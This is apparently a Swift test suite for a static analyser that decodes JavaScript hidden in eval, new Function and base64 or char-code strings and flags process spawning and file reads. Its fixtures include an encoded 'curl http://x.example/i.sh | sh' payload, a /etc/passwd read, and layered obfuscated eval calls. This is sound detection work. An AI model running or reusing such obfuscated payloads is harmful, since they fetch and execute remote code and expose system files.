import Analysis
import Foundation
import LockgateCore
import Testing

/// Code hidden in a string is code: what `eval`, `new Function` and string timers receive as a constant (a
/// literal, or a value folded from `atob`, `Buffer.from(…, 'base64')`, `String.fromCharCode`, concatenation) is
/// walked, and its behaviours are reported at the call.
@Suite struct JavaScriptExecutedCodeTests {
    /// `require('child_process').exec('curl http://x.example/i.sh | sh')`, base64-encoded.
    static let shellPayload = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovL3guZXhhbXBsZS9pLnNoIHwgc2gnKQ=="

    @Test func base64CodeIsWalkedAtTheCall() {
        let analysis = JavaScriptTestSupport.analyse("eval(Buffer.from('\(Self.shellPayload)', 'base64').toString())\n")
        let atCall = analysis.allBehaviours.filter { $0.line == 1 && $0.column == 1 }
        let kinds = Set(atCall.map(\.kind))
        #expect(kinds.isSuperset(of: [.evalCode, .importProcessModule, .spawnProcess]))
        let spawn = atCall.first { $0.kind == .spawnProcess }
        #expect(spawn?.snippet.hasPrefix("decoded: require('child_process').exec(") == true)
    }

    @Test func functionConstructorAndCharCodesAreWalked() {
        let codes = Array("require('fs').readFileSync('/etc/passwd')".unicodeScalars).map { String($0.value) }
        let analysis = JavaScriptTestSupport.analyse(
            "new Function(String.fromCharCode(\(codes.joined(separator: ", "))))()\n")
        let kinds = Set(analysis.allBehaviours.map(\.kind))
        #expect(kinds.contains(.readFile), "\(analysis.allBehaviours.map(\.kind.rawValue))")
        #expect(kinds.contains(.importFileSystemModule))
    }

    @Test func layersOfEncodedCodeAreFollowed() {
        // eval(atob(...)) whose code is eval(Buffer.from(<require('child_process').exec('id')>).toString()).
        let outer =
            "ZXZhbChCdWZmZXIuZnJvbSgnY21WeGRXbHlaU2duWTJocGJHUmZjSEp2WTJWemN5Y3BMbVY0WldNb0oybGtKeWs9JywnYmFzZTY0Jyku"
            + "dG9TdHJpbmcoKSk="
        #expect(JavaScriptTestSupport.kinds(in: "eval(atob('\(outer)'))").contains(.spawnProcess))
    }

    @Test func valuesThatAreNotCodeAddNothing() {
        let kinds = JavaScriptTestSupport.kinds(in: "eval('x'); setTimeout('1', 10); eval(\"'child_process'\");")
        #expect(!kinds.contains(.spawnProcess))
        #expect(!kinds.contains(.importProcessModule))
    }

    @Test func deepLayersStopAtTheLimit() {
        func wrap(_ code: String) -> String { "eval(atob('" + Data(code.utf8).base64EncodedString() + "'))" }
        let bottom = "require('child_process').exec('id')"
        #expect(
            JavaScriptTestSupport.kinds(in: (0..<3).reduce(bottom) { code, _ in wrap(code) }).contains(.spawnProcess))
        let deep = JavaScriptTestSupport.kinds(in: (0..<10).reduce(bottom) { code, _ in wrap(code) })
        #expect(!deep.contains(.spawnProcess))
        #expect(deep.contains(.evalCode))
    }
}
